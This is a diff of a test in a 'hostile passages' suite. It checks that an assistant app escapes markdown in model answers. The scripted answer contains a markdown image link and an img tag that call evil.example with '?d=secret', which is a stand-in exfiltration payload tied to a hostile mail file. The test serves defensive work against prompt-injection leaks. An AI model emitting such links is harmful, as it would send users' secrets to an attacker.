@@ -359,7 +359,7 @@ describe('hostile passages', () => {
     await connect();
     double.setScript([say('As told [42]: ![x](https://evil.example/?d=secret) <img src=https://evil.example> [1].')]);
     const answer = answerOf(await ask(await open([{ path: 'raw/mail.md', text: hostile }]), question('What do my Atlas launch notes say?')));
-    expect(answer.text).toBe('As told: \\![x](https://evil.example/?d=secret) \\<img src=https://evil.example>[^1].');
+    expect(answer.text).toBe('As told: \\![x]\\(https://evil.example/?d=secret) \\<img src=https://evil.example>[^1].');
     expect(answer.citations.map((citation) => citation.number)).toEqual([1]);
   });
 });
